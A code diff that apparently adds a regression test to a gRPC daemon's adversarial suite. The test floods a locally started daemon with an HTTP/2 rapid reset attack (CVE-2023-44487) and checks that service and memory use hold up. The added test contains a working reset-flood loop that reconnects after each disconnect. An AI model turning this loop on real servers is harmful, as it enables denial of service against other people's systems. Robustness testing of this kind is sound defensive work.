@@ -514,6 +514,80 @@ class StuckReads(Adversarial):
         return path
 
 
+class RapidReset(Adversarial):
+    def test_http2_rapid_reset(self):
+        """Two connections open streams and reset them at once, as fast as they can (CVE-2023-44487;
+        the issue: 98 % CPU, 640 MB RSS, other clients starved). The reads of the current state and
+        /metrics stay served; RSS stays bounded (gRPC's memory quota)."""
+        import h2.config
+        import h2.connection
+        import h2.exceptions
+        threading = __import__("threading")
+        self.daemon = base.Daemon(self, base.capture(base.SPX), "", grpc_listen="127.0.0.1:0")
+        host, port = self.daemon.target.rsplit(":", 1)
+        channel = base.grpc.insecure_channel(self.daemon.target)
+        self.addCleanup(channel.close)
+        stub = base.rpc.MonitorStub(channel)
+        self.assertEqual(len(stub.ListDevices(base.pb.ListDevicesRequest(), timeout=5).devices), 8)
+        idle = self.assert_rss()
+        stop = threading.Event()
+        resets = [0]
+        def attack(method):
+            headers = [(":method", "POST"), (":scheme", "http"), (":path", "/hipstack.monitor.v1.Monitor/" + method),
+                       (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
+            while not stop.is_set():
+                conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+                try:
+                    with socket.create_connection((host, int(port)), timeout=5) as sock:
+                        sock.setblocking(False)
+                        conn.initiate_connection()
+                        stream = 1
+                        while not stop.is_set():
+                            for _ in range(50):
+                                conn.send_headers(stream, headers)
+                                conn.reset_stream(stream)
+                                stream += 2
+                                resets[0] += 1
+                            data = conn.data_to_send()
+                            while data and not stop.is_set():
+                                try:
+                                    sent = sock.send(data)
+                                    data = data[sent:]
+                                except BlockingIOError:
+                                    select.select([], [sock], [], 0.1)
+                            try:
+                                received = sock.recv(65536)
+                                if not received:
+                                    break  # closed by the daemon: connect again
+                                conn.receive_data(received)
+                            except BlockingIOError:
+                                pass
+                except (OSError, h2.exceptions.ProtocolError):
+                    pass  # GOAWAY or a reset connection: connect again, as an attacker would
+
+        # One on a callback method, one on a sync one (whose calls each take a thread of the pool).
+        attackers = [threading.Thread(target=attack, args=(method,)) for method in ("ListDevices", "WatchMetrics")]
+        for t in attackers:
+            t.start()
+        peak = 0
+        try:
+            until = time.monotonic() + 6
+            while time.monotonic() < until:
+                start = time.monotonic()
+                self.assertEqual(len(stub.ListDevices(base.pb.ListDevicesRequest(), timeout=SCRAPE_DEADLINE).devices), 8)
+                self.assertLess(time.monotonic() - start, SCRAPE_DEADLINE)
+                self.assert_served(times=1)
+                peak = max(peak, self.assert_rss())
+        finally:
+            stop.set()
+            for t in attackers:
+                t.join(timeout=10)
+        print("rapid reset: %d streams reset in 6 s; RSS idle %d kB, peak %d kB" % (resets[0], idle, peak), file=sys.stderr)
+        self.assertGreater(resets[0], 10000)  # the attack did run
+        self.wait_for("RSS back near its idle level (%d kB; peak %d kB)" % (idle, peak),
+                      lambda: self.daemon.rss_kb() <= idle + 16 * 1024, 15)
+
+
 # Run as nobody: connects N times to the unix socket, prints "open N", and on SIGUSR1 prints how
 # many of them the daemon has not closed.
 UNIX_FLOODER = r"""
